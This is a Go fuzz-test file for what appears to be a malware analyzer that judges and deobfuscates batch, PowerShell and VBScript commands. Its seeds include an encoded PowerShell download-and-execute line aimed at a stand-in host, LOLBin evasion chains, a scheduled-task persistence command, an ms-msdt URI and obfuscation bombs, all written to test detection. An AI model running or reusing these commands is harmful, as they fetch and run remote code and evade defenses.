package cmdline

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
)

// seeds adds the corpus files with the given extensions.
func seeds(f *testing.F, exts ...string) {
	f.Helper()
	dir := "../../testdata/corpus"
	ents, err := os.ReadDir(dir)
	if err != nil {
		f.Fatal(err)
	}
	n := 0
	for _, e := range ents {
		if !rules.HasExt(filepath.Ext(e.Name()), exts...) {
			continue
		}
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(b))
		n++
	}
	if n == 0 {
		f.Fatalf("no corpus seeds for %v", exts)
	}
}

// checkFindings is what every Judge result must satisfy.
func checkFindings(t *testing.T, cmd string) {
	t.Helper()
	for _, x := range Judge("fuzz", cmd) {
		if x.Rule == "" || x.Description == "" || x.Evidence == "" || x.Analyzer != "fuzz" {
			t.Fatalf("bad finding %+v", x)
		}
		if utf8.RuneCountInString(x.Evidence) > rules.MaxEvidence {
			t.Fatalf("evidence too long: %q", x.Evidence)
		}
	}
}

// checkOut bounds what a deobfuscator may return: the input it was given
// (capped) plus at most maxOut of what it learned.
func checkOut(t *testing.T, in, out string) {
	t.Helper()
	if len(out) > min(len(in), maxInput)+maxOut {
		t.Fatalf("output %d bytes for %d bytes of input", len(out), len(in))
	}
}

func FuzzJudge(f *testing.F) {
	seeds(f, ".bat", ".cmd")
	for _, s := range []string{
		`powershell -enc ` + encode("iwr http://x/a | iex"),
		`cmd /c "start "" /b conhost --headless forfiles /c "pcalua -a x""`,
		`schtasks /create /tr "cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c calc"`,
		`ms-msdt:/id PCWDiagnostic`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		checkFindings(t, cmd)
		if _, ok := RiskyURI("fuzz", cmd); ok {
			f, _ := RiskyURI("fuzz", cmd)
			if f.Evidence == "" || !strings.HasPrefix(f.Rule, "risky-uri-") {
				t.Fatalf("bad URI finding %+v", f)
			}
		}
	})
}

func FuzzBatch(f *testing.F) {
	seeds(f, ".bat", ".cmd")
	f.Add("set a=%a%%a%\nset a=%a%%a%\n%a:~0,5%!a!%a:x=yy%")
	f.Fuzz(func(t *testing.T, text string) {
		out := Deobfuscate(LangBatch, text)
		checkOut(t, text, out)
		checkFindings(t, out)
	})
}

func FuzzPowerShell(f *testing.F) {
	seeds(f, ".ps1")
	f.Add(`$a='x';$b=$a+$a;$c=$b+$b;iex ('{0}{0}' -f $c)`)
	f.Add(`[Convert]::FromBase64String('` + encode("iex 'iex ''x'''") + `')`)
	f.Fuzz(func(t *testing.T, text string) {
		out := Deobfuscate(LangPowerShell, text)
		checkOut(t, text, out)
		checkFindings(t, out)
	})
}

func FuzzVBScript(f *testing.F) {
	seeds(f, ".vbs")
	f.Add("For i = 1 To 100000000\nx = x & x\nNext\nExecute x")
	f.Add(`a = "Execute a": Execute a`)
	f.Fuzz(func(t *testing.T, text string) {
		v := VBSCommands(text)
		checkOut(t, text, v.Text)
		checkFindings(t, strings.Join(v.Commands, "\n"))
	})
}
